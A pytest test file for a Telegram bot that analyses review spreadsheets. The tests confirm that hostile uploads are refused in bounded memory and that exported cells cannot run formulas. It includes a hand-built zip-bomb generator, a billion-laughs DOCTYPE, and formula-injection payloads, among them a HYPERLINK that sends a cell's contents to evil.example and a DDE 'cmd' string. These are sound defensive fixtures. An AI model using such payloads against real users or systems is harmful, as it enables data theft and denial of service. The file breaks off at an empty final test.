"""Hostile uploads are refused in bounded memory, with a message that names the limit.

Each hostile file is read by a fresh interpreter (`probe`) so that its peak memory is its own:
calamine allocates in Rust, where tracemalloc does not look, and ru_maxrss is no use either:
Linux carries it across fork and exec, so a child starts with the high-water mark of this test
process. The child reads VmHWM from /proc/self/status instead (the peak of its own address
space). It also runs under an address-space limit, so a regression fails quickly with
MemoryError instead of taking the machine down.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import random
import sqlite3
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import closing
from pathlib import Path

import pytest

from bot.report import labelled_csv, safe_cell
from bot.settings import LimitsConfig, Settings, StorageConfig
from bot.store import InvalidValue, Store
from bot.tables import MAX_COLUMNS, MAX_UNCOMPRESSED, ParseError, Table, read_table
from nlp.config import NLPConfig
from nlp.engine import Engine
from nlp.types import Sentiment
from tests.bot_harness import FailingWriter, KeywordClassifier, Models, bot_running, make_settings, tiny_nlp
from tests.fake_telegram import FakeTelegram

MAX_BYTES = 20 * 2**20  # the default limits.max_file_bytes
MAX_ROWS = 100_000  # the default limits.max_file_rows
PEAK_MIB = 150  # generous: a well-formed 100k-row export costs about this much

_CHILD = """
import json, resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from bot.tables import ParseError, read_table
def peak_kib():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
before = peak_kib()
try:
    table = read_table(Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]))
    out = {"code": None, "rows": len(table.rows), "columns": len(table.columns)}
except ParseError as exc:
    out = {"code": exc.code, "message": str(exc)}
except MemoryError:
    out = {"code": "MemoryError"}
out["peak_mib"] = (peak_kib() - before) / 1024
print(json.dumps(out))
"""


def probe(path: Path, max_bytes: int = MAX_BYTES, max_rows: int = MAX_ROWS) -> dict[str, object]:
    done = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path), str(max_bytes), str(max_rows)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    result: dict[str, object] = json.loads(done.stdout)
    return result


# ------------------------------------------------------------------------------ XLSX builders

_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_BOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="评价" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_BOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)


def _sheet(dimension: str, rows: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org'
        f'/spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData>'
        "</worksheet>"
    )


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


_REVIEWS = (
    f'<row r="1">{_cell("A1", "评价内容")}</row><row r="2">{_cell("A2", "质量很好")}</row>'
    f'<row r="3">{_cell("A3", "发货太慢")}</row>'
)


def write_xlsx(path: Path, sheet: str, mode: str = "w") -> Path:
    with zipfile.ZipFile(path, mode, zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _BOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _BOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def write_bomb(path: Path, member: str, prefix: bytes, repeat: int, suffix: bytes) -> int:
    """A zip holding `member` = prefix + 1 MiB of "A" x `repeat` + suffix, deflated by hand.

    Each MiB is compressed once (after a full flush deflate restarts, so every block is the
    same bytes) and written `repeat` times: a 1.2 GiB part costs ~1 MiB and a second to build.
    Returns its uncompressed size.
    """
    block = b"A" * 2**20
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    packed = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert c.compress(block) + c.flush(zlib.Z_FULL_FLUSH) == packed
    tail = c.compress(suffix) + c.flush()
    crc = zlib.crc32(prefix)
    for _ in range(repeat):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + repeat * len(block) + len(suffix)
    csize = len(head) + repeat * len(packed) + len(tail)
    name = member.encode()
    fields = (20, 0, 8, 0, 0x21, crc, csize, size, len(name))
    with path.open("wb") as f:
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + name)
        f.write(head)
        for _ in range(repeat):
            f.write(packed)
        f.write(tail)
        directory = f.tell()
        f.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, 0) + name)
        end = f.tell()
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, end - directory, directory, 0))
    return size


# ------------------------------------------------------------------------------ XLSX


def test_forged_dimension_is_ignored(tmp_path: Path) -> None:
    # A1:XFD2001 over 2,001 one-cell rows: openpyxl padded every row to 16,384 cells (~550 MiB)
    rows = "".join(f'<row r="{r}">{_cell(f"A{r}", "好评")}</row>' for r in range(2, 2002))
    path = write_xlsx(
        tmp_path / "forged.xlsx", _sheet("A1:XFD2001", f'<row r="1">{_cell("A1", "评价内容")}</row>' + rows)
    )
    assert path.stat().st_size < 12 * 1024
    got = probe(path)
    assert got["code"] is None and got["rows"] == 2000 and got["columns"] == 1
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_a_cell_far_to_the_right_is_refused_before_the_sheet_is_built(tmp_path: Path) -> None:
    # calamine builds a dense rows x columns grid: one cell at XFD2001 cost ~1 GiB
    far = '<row r="2001"><c r="XFD2001" t="inlineStr"><is><t>x</t></is></c></row>'
    path = write_xlsx(tmp_path / "far.xlsx", _sheet("A1:A3", _REVIEWS + far))
    got = probe(path)
    assert got["code"] == "too_many_columns"
    assert "文件有 16384 列，最多支持 200 列" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_cells_without_references_are_counted_too(tmp_path: Path) -> None:
    # 20,000 <c> without r="..." in row 2001 span as wide a grid as references would
    wide = '<row r="2001">' + "<c><v>1</v></c>" * 20_000 + "</row>"
    path = write_xlsx(tmp_path / "wide.xlsx", _sheet("A1", _REVIEWS + wide))
    got = probe(path)
    assert got["code"] == "too_many_columns"
    assert "20000 columns; at most 200" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_huge_shared_string_is_refused_before_the_reader_opens_it(tmp_path: Path) -> None:
    path = tmp_path / "sst.xlsx"
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    size = write_bomb(path, "xl/sharedStrings.xml", sst, 1200, b"</t></si></sst>")
    write_xlsx(path, _sheet("A1", '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), mode="a")
    assert size > 1.1 * 2**30 and path.stat().st_size < 2 * 2**20
    got = probe(path)
    assert got["code"] == "zip_size"
    assert f"上限 {MAX_UNCOMPRESSED // 2**20} MB" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


_HEADER = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'  # shared string 0: 评价内容


def write_shared(path: Path, indices: list[str], *texts: str) -> Path:
    """An XLSX whose column A names shared strings: row 1 string 0 (the header), row 2 on
    `indices` as written; `texts` are the shared strings."""
    cells = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>{v}</v></c></row>' for r, v in enumerate(indices, 2))
    write_xlsx(path, _sheet("A1", _HEADER + cells))
    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "xl/sharedStrings.xml",
            f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{items}</sst>',
        )
    return path


def test_one_long_shared_string_named_by_many_cells_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    # calamine copies a shared string into every cell naming it: 1 M characters x 5,000 cells
    # is 5 G characters from a file of ~200 KB (it aborted the process)
    noise = "".join(random.Random(7).choice("ab") for _ in range(1_000_000))
    path = write_shared(tmp_path / "amplified.xlsx", ["1"] * 5_000, "评价内容", noise)
    assert path.stat().st_size < 400 * 1024
    got = probe(path)
    assert got["code"] == "cell_too_long"
    assert "第 2 行有一个单元格超过 10000 个字" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_shared_text_copied_into_cells_is_capped(tmp_path: Path) -> None:
    # each string is under the cell cap, but 4,000 copies of 9,000 characters is 36 M
    path = write_shared(tmp_path / "copies.xlsx", ["1"] * 4_000, "评价内容", "好" * 9_000)
    with pytest.raises(ParseError, match="over 32 million characters") as info:
        read_table(path, MAX_BYTES, MAX_ROWS)
    assert info.value.code == "too_much_text"


def test_shared_strings_within_the_caps_are_read(tmp_path: Path) -> None:
    indices = [str(r % 2 + 1) for r in range(2, 1002)]
    path = write_shared(tmp_path / "ok.xlsx", indices, "评价内容", "物流很快", "质量" * 4_000)
    table = read_table(path, MAX_BYTES, MAX_ROWS)
    assert len(table.rows) == 1000 and table.texts()[:2] == ["物流很快", "质量" * 4_000]


@pytest.mark.parametrize(
    "far",
    [
        '<c q=">" r="XFD2" t="inlineStr"><is><t>x</t></is></c>',  # a ">" inside a quoted attribute
        "<c q='>' r='XFD2'><v>1</v></c>",
        '<c x:r="XFD2" xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><v>1</v></c>',
        '<c r="A2" x:r="XFD2" xmlns:x="urn:other"><v>1</v></c>',  # the larger of two references
        '<c r="&#88;FD2"><v>1</v></c>',  # a character reference inside the value
    ],
)
def test_cell_references_cannot_hide_from_the_scan(tmp_path: Path, far: str) -> None:
    path = write_xlsx(tmp_path / "hidden.xlsx", _sheet("A1", _REVIEWS + f'<row r="4">{far}</row>'))
    got = probe(path)
    assert got["code"] == "too_many_columns", got
    assert "文件有 16384 列" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_prefixed_sheet_elements_are_scanned(tmp_path: Path) -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><x:worksheet xmlns:x="{main}"><x:sheetData>'
        '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>评价内容</x:t></x:is></x:c></x:row>'
        '<x:row r="9000"><x:c r="GZ9000"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    )
    with pytest.raises(ParseError) as info:
        read_table(write_xlsx(tmp_path / "prefixed.xlsx", sheet), MAX_BYTES, MAX_ROWS)
    assert info.value.code == "too_many_columns" and info.value.params["n"] == 208


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_a_doctype_is_refused(tmp_path: Path, part: str) -> None:
    laughs = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    sheet = _sheet("A1", _REVIEWS).replace("?>", "?>" + laughs, 1)
    book = _BOOK.replace("?>", "?>" + laughs, 1)
    path = tmp_path / "doctype.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in (
            ("[Content_Types].xml", _CT),
            ("_rels/.rels", _RELS),
            ("xl/_rels/workbook.xml.rels", _BOOK_RELS),
        ):
            archive.writestr(name, data)
        archive.writestr("xl/workbook.xml", book if part == "xl/workbook.xml" else _BOOK)
        archive.writestr(
            "xl/worksheets/sheet1.xml", sheet if part != "xl/workbook.xml" else _sheet("A1", _REVIEWS)
        )
    with pytest.raises(ParseError, match="DOCTYPE") as info:
        read_table(path, MAX_BYTES, MAX_ROWS)
    assert info.value.code == "bad_xlsx" and part in str(info.value)


def test_highly_compressed_part_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "ratio.xlsx"
    write_bomb(path, "xl/media/blob.bin", b"", 50, b"")  # 50 MiB in ~50 KiB: ratio ~1000
    write_xlsx(path, _sheet("A1", _REVIEWS), mode="a")
    with pytest.raises(ParseError, match=r"compressed \d+x \(the limit is 200x\)") as info:
        read_table(path, MAX_BYTES, MAX_ROWS)
    assert info.value.params["name"] == "xl/media/blob.bin"


def test_too_many_zip_members(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "many.xlsx", _sheet("A1", _REVIEWS))
    with zipfile.ZipFile(path, "a") as archive:
        for i in range(1001):
            archive.writestr(f"xl/media/{i}.txt", "")
    with pytest.raises(ParseError, match="1006 parts; at most 1000"):
        read_table(path, MAX_BYTES, MAX_ROWS)


def test_xlsx_empty_rows_count_against_the_row_limit(tmp_path: Path) -> None:
    empty = "".join(f'<row r="{r}"><c r="A{r}" s="1"/></row>' for r in range(4, 200_004))
    path = write_xlsx(tmp_path / "empty-rows.xlsx", _sheet("A1", _REVIEWS + empty))
    got = probe(path)
    assert got["code"] == "too_many_rows"
    assert "超过 100000 行（空行也算）" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_xlsx_rows_times_columns_is_capped(tmp_path: Path) -> None:
    # 151 columns (under the column cap) x 14,000 rows (under the row cap) = 2.1 M cells
    rows = "".join(f'<row r="{r}"><c r="EU{r}"><v>1</v></c></row>' for r in range(4, 14_001))
    path = write_xlsx(tmp_path / "area.xlsx", _sheet("A1", _REVIEWS + rows))
    with pytest.raises(ParseError, match="14000 rows × 151 columns, at most 2000000 cells"):
        read_table(path, MAX_BYTES, MAX_ROWS)


# ------------------------------------------------------------------------------ CSV / TXT


def test_csv_with_20000_columns_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    # ~100 KB: every row used to be padded to the header's 20,000 cells (40 GB of pointers)
    path = tmp_path / "wide.csv"
    path.write_text("评价内容" + ",c" * 19_999 + "\n" + "ok\n" * 20_000, encoding="utf-8")
    assert path.stat().st_size < 110_000
    got = probe(path)
    assert got["code"] == "too_many_columns"
    assert "文件有 20000 列，最多支持 200 列" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_a_line_of_millions_of_delimiters_is_refused_as_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "commas.csv"
    path.write_bytes(b"text" + b",a" * 9_000_000)  # 18 MB, one line
    got = probe(path)
    assert got["code"] == "too_many_columns" and "9000001" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < 64  # was 220 MiB


@pytest.mark.parametrize("width", [60, 20_000])
def test_long_header_names_give_one_short_message(tmp_path: Path, width: int) -> None:
    names = [f"列{i}" + "x" * width for i in range(150)]
    path = tmp_path / "names.csv"
    path.write_text(",".join(names) + "\n" + ",".join("1" * 150) + "\n", encoding="utf-8")
    with pytest.raises(ParseError) as info:
        read_table(path, MAX_BYTES, MAX_ROWS)
    if width > 10_000:  # a header cell is a cell
        assert info.value.code == "cell_too_long" and info.value.params["row"] == 1
    else:
        assert info.value.code == "no_text_column"
        assert len(str(info.value)) < 700 and "列0" + "x" * 17 + "…" in str(info.value)
        assert str(info.value).count("(+140)") == 2


def test_csv_row_wider_than_the_column_cap_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "row.csv"
    path.write_text("评价内容,评分\n质量很好,5\n" + "x," * 5000 + "\n", encoding="utf-8")
    with pytest.raises(ParseError, match="5001 columns; at most 200") as info:
        read_table(path, MAX_BYTES, MAX_ROWS)
    assert info.value.params == {"n": 5001, "limit": MAX_COLUMNS}


@pytest.mark.parametrize(("name", "empty"), [("r.csv", "\n"), ("r.csv", ",\n"), ("r.txt", " \n")])
def test_empty_rows_count_against_the_row_limit(tmp_path: Path, name: str, empty: str) -> None:
    path = tmp_path / name
    path.write_text("评价内容\n质量很好\n" + empty * 200_000, encoding="utf-8")
    got = probe(path)
    assert got["code"] == "too_many_rows"
    assert "Too many rows: over 100000 (empty rows count too)" in str(got["message"])
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


@pytest.mark.parametrize("name", ["r.txt", "r.csv"])
def test_a_file_of_nothing_but_newlines_is_refused_lazily(tmp_path: Path, name: str) -> None:
    # 20 MiB of "\n": a list of 20 million rows cost ~1.4 GiB before a single one was counted
    path = tmp_path / name
    path.write_bytes(b"text\n" + b"\n" * (MAX_BYTES - 5))
    got = probe(path)
    assert got["code"] == "too_many_rows"
    assert isinstance(got["peak_mib"], float) and got["peak_mib"] < PEAK_MIB


def test_csv_rows_times_columns_is_capped(tmp_path: Path) -> None:
    path = tmp_path / "area.csv"
    path.write_text("评价内容" + ",c" * 99 + "\n" + "好\n" * 21, encoding="utf-8")
    assert len(read_table(path, MAX_BYTES, MAX_ROWS, max_cells=2_100).rows) == 21
    with pytest.raises(ParseError, match="20 rows × 100 columns, at most 2000 cells"):
        read_table(path, MAX_BYTES, MAX_ROWS, max_cells=2_000)


# ------------------------------------------------------------------------------ formulas in exports

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&B1,"详情")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_safe_cell_neutralises_what_a_spreadsheet_would_run(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["质量很好", "-5", "+3.5", "-0.25", "1e5", "", "5星=满分", "＝全角"])
def test_safe_cell_keeps_text_and_plain_numbers(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_labelled_csv_neutralises_every_cell_header_included() -> None:
    table = Table(["=评价内容", "评分"], [[HOSTILE_CELLS[0], "-1"], ["@SUM(1+1)", "=1+1"]], 0, "utf-8-sig")
    sentiment = Sentiment("negative", {"negative": 0.8, "neutral": 0.1, "positive": 0.1})
    got = list(csv.reader(io.StringIO(labelled_csv(table, [sentiment, None]).decode("utf-8-sig"))))
    assert got[0][:2] == ["'=评价内容", "评分"]
    assert got[1][:3] == ["'" + HOSTILE_CELLS[0], "-1", "negative"]
    assert got[2][:2] == ["'@SUM(1+1)", "'=1+1"]
    starts = tuple("=+-@\t\r")
    assert not [c for row in got for c in row if c.startswith(starts) and c != "-1"]


@pytest.fixture
def xiaoer(
    tmp_path: Path, tiny_gemma_dir: Path, tiny_encoder_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> Callable[[list[str]], int]:
    """`xiaoer ARGS` in this process (a child would import torch again: ~20 s), tiny models."""
    from bot.cli import main

    for key in [k for k in os.environ if k.startswith("XIAOER_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("XIAOER_NLP__WRITER__MODEL", str(tiny_gemma_dir))
    monkeypatch.setenv("XIAOER_NLP__CLASSIFIER__MODEL", str(tiny_encoder_dir))
    monkeypatch.setenv("XIAOER_NLP__CLASSIFIER__DTYPE", "float32")
    monkeypatch.setenv("XIAOER_NLP__CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("XIAOER_STORAGE__PATH", str(tmp_path / "db" / "xiaoer.sqlite3"))
    monkeypatch.setenv("XIAOER_LOG_LEVEL", "WARNING")
    return lambda args: main(["--env-file", str(tmp_path / "none.env"), *args])


def test_analyze_writes_no_formula(xiaoer: Callable[[list[str]], int], tmp_path: Path) -> None:
    src = tmp_path / "export.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["评价内容", "备注"], [HOSTILE_CELLS[0], "@SUM(1+1)"], ["质量很好", "-5"]])
    out = tmp_path / "labelled.csv"
    assert xiaoer(["analyze", str(src), "-o", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert got[1][:2] == ["'" + HOSTILE_CELLS[0], "'@SUM(1+1)"]
    assert got[2][:2] == ["质量很好", "-5"]
    assert got[1][2] in ("negative", "neutral", "positive")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("wide.csv", "评价内容" + ",c" * 19_999 + "\nok\n", "文件有 20000 列，最多支持 200 列"),
        ("empty.csv", "评价内容\n好\n" + "\n" * 100_001, "over 100000 (empty rows count too)"),
        ("tw.csv", "評價內容\n東西收到了，品質很好，物流很快！\n", "looks like Big5"),
    ],
)
def test_analyze_refuses_hostile_files_with_the_limit(
    xiaoer: Callable[[list[str]], int],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    name: str,
    content: str,
    message: str,
) -> None:
    src = tmp_path / name
    src.write_bytes(content.encode("big5" if name == "tw.csv" else "utf-8"))
    assert xiaoer(["analyze", str(src), "-o", str(tmp_path / "o.csv")]) == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "o.csv").exists()


def test_analyze_refuses_the_shared_string_bomb(
    xiaoer: Callable[[list[str]], int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "sst.xlsx"
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    write_bomb(path, "xl/sharedStrings.xml", sst, 300, b"</t></si></sst>")
    write_xlsx(path, _sheet("A1", '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), mode="a")
    assert xiaoer(["analyze", str(path), "-o", str(tmp_path / "o.csv")]) == 2
    assert "The Excel file unpacks to 300 MB; the limit is 256 MB" in capsys.readouterr().err


# ------------------------------------------------------------------------------ the bot

ZH = 1001
EN = 2002


@pytest.fixture
async def tg(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[FakeTelegram]:
    monkeypatch.setenv("PTB_TIMEDELTA", "true")  # PTB 22 warns when it builds a RetryAfter otherwise
    async with FakeTelegram() as server:
        server.user(ZH, language_code="zh-hans")
        yield server


@pytest.fixture
def bot_settings(tg: FakeTelegram, tmp_path: Path, tiny_gemma_dir: Path, tiny_encoder_dir: Path) -> Settings:
    nlp = tiny_nlp(tiny_gemma_dir, tiny_encoder_dir, tmp_path / "cache")
    return make_settings(tg, tmp_path, nlp, limits=LimitsConfig(requests_per_minute=5))


def engine_factory() -> Callable[[NLPConfig], Engine]:
    return Models(KeywordClassifier(), FailingWriter()).engine_factory()


def stored_file_reviews(settings: Settings) -> int:
    with closing(sqlite3.connect(settings.storage.path)) as db:
        (n,) = db.execute("SELECT count(*) FROM reviews WHERE source = 'file'").fetchone()
    return int(n)


async def test_bot_labelled_table_runs_no_formula(tg: FakeTelegram, bot_settings: Settings) -> None:
    rows = [["评价内容", "备注"], [HOSTILE_CELLS[0], "@SUM(1+1)"], ["物流太慢了", "-5"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    async with bot_running(tg, bot_settings, engine_factory()):
        tg.user_document(ZH, "评价.csv", buf.getvalue().encode(), "text/csv")
        [table] = await tg.wait_for_calls("sendDocument", chat_id=ZH, timeout=20)
    [labelled] = table.files.values()
    got = list(csv.reader(io.StringIO(labelled.data.decode("utf-8-sig"))))
    assert got[1][:2] == ["'" + HOSTILE_CELLS[0], "'@SUM(1+1)"]
    assert got[2][:3] == ["物流太慢了", "-5", "negative"]


async def test_bot_refuses_a_hostile_upload_naming_the_limit(
    tg: FakeTelegram, bot_settings: Settings
) -> None:
    data = ("评价内容" + ",c" * 19_999 + "\n" + "ok\n" * 100).encode()
    async with bot_running(tg, bot_settings, engine_factory()):
        tg.user_document(ZH, "wide.csv", data, "text/csv")
        refused = await tg.wait_for_message(ZH, "列，最多支持", timeout=20)
    assert "文件有 20000 列，最多支持 200 列" in (refused.text or "")
    assert "/" not in (refused.text or "")  # the merchant's language only, not both
    assert tg.calls("sendDocument") == []


async def test_same_file_sent_again_is_not_stored_twice(tg: FakeTelegram, bot_settings: Settings) -> None:
    data = "评价内容\n物流太慢了\n质量很好\n包装破了\n".encode()
    async with bot_running(tg, bot_settings, engine_factory()):
        first = tg.user_document(ZH, "评价.csv", data, "text/csv")
        await tg.wait_for_calls("sendDocument", chat_id=ZH, timeout=20)
        assert stored_file_reviews(bot_settings) == 3
        again = {"message": {**first["message"], "message_id": first["message"]["message_id"] + 100}}
        tg.enqueue(again)  # a retry: the same document, so the same file_unique_id
        note = await tg.wait_for_message(ZH, "已经分析过", timeout=20)
        await tg.wait_for_calls("sendDocument", 2, chat_id=ZH, timeout=20)
        tg.user_document(ZH, "评价.csv", data, "text/csv")  # a new upload of the same bytes
        await tg.wait_for_calls("sendDocument", 3, chat_id=ZH, timeout=20)
    assert "评价没有重复保存" in (note.text or "") and "3 条评价" in (note.text or "")
    # Telegram gives a file sent anew its own file_unique_id only if it is a different file;
    # the fake server registers each upload as new, so the third one is stored
    assert stored_file_reviews(bot_settings) == 6


async def test_upload_counts_its_rows_against_the_rate_limit(
    tg: FakeTelegram, bot_settings: Settings
) -> None:
    # requests_per_minute=5 and a unit per 200 rows: 600 rows are 3 units, 400 rows 2
    rows = ("评价内容\n" + "质量很好\n" * 600).encode()
    async with bot_running(tg, bot_settings, engine_factory()):
        tg.user_document(ZH, "a.csv", rows, "text/csv")
        await tg.wait_for_calls("sendDocument", chat_id=ZH, timeout=20)
        tg.user_document(ZH, "b.csv", rows, "text/csv")  # 3 + 3 > 5
        limited = await tg.wait_for_message(ZH, "b.csv 没有分析完", timeout=20)
        tg.user_document(ZH, "c.csv", ("评价内容\n" + "发货太慢\n" * 400).encode(), "text/csv")  # 3 + 2
        await tg.wait_for_calls("sendDocument", 2, chat_id=ZH, timeout=20)
        tg.user_document(ZH, "d.csv", "评价内容\n好\n".encode(), "text/csv")  # 5 + 1 > 5
        await tg.wait_for_message(ZH, "d.csv 没有分析完", timeout=20)
    # the status message itself says so: it does not stay on "reading"
    assert "请求太频繁" in (limited.text or "") and "正在读取" not in (limited.text or "")
    assert not any("正在读取" in (m.text or "") for m in tg.messages(ZH) if m.from_bot)
    assert stored_file_reviews(bot_settings) == 1000


async def test_a_classifier_failure_ends_the_status_message_with_the_reason(
    tg: FakeTelegram, bot_settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    class Broken(KeywordClassifier):
        def classify(self, texts: Sequence[str]) -> list[Sentiment]:
            raise RuntimeError("CUDA out of memory")

    async with bot_running(tg, bot_settings, Models(Broken(), FailingWriter()).engine_factory()):
        tg.user_document(ZH, "评价.csv", "评价内容\n物流太慢了\n".encode(), "text/csv")
        failed = await tg.wait_for_message(ZH, "没有分析完", timeout=20)
        await asyncio.sleep(0.2)  # nothing else follows: no second apology
    assert "出了点问题" in (failed.text or "") and "重新发送" in (failed.text or "")
    assert [m.text for m in tg.messages(ZH) if m.from_bot] == [failed.text]
    assert any(r.exc_info for r in caplog.records if r.name == "bot.handlers.errors")


async def test_store_keeps_an_upload_once_and_resumes_an_interrupted_one(tmp_path: Path) -> None:
    good = Sentiment("positive", {"negative": 0.1, "neutral": 0.1, "positive": 0.8})
    broken = Sentiment("negative", {"negative": float("nan"), "neutral": 0.1, "positive": 0.1})
    chunk1, chunk2 = [("好", good), ("不错", good)], [("还行", good)]
    async with Store(StorageConfig(path=tmp_path / "s.sqlite3")) as store:
        await store.get_or_create_merchant(ZH)
        with pytest.raises(InvalidValue):
            await store.add_upload_reviews(ZH, "AgAD01", "a.csv", 3, 0, [("好", good), ("坏", broken)])
        assert await store.get_upload(ZH, "AgAD01") is None  # all or nothing
        # a first try stores chunk 1, then dies; the retry stores only chunk 2
        assert await store.add_upload_reviews(ZH, "AgAD01", "a.csv", 3, 0, chunk1) == 2
        assert await store.add_upload_reviews(ZH, "AgAD01", "a.csv", 3, 0, chunk1) == 0
        assert await store.add_upload_reviews(ZH, "AgAD01", "a.csv", 3, 2, chunk2) == 1
        assert await store.add_upload_reviews(ZH, "AgAD01", "a.csv", 3, 2, chunk2) == 0
        upload = await store.get_upload(ZH, "AgAD01")
        assert upload is not None and (upload.review_count, upload.row_count, upload.name) == (3, 3, "a.csv")
        assert sorted(r.text for r in await store.recent_reviews(ZH)) == sorted(["好", "不错", "还行"])
        await store.get_or_create_merchant(EN)  # another merchant's copy of the file is theirs
        assert await store.add_upload_reviews(EN, "AgAD01", "a.csv", 1, 0, chunk2) == 1


def test_a_table_at_the_cell_cap_reads_in_bounded_memory(tmp_path: Path) -> None:
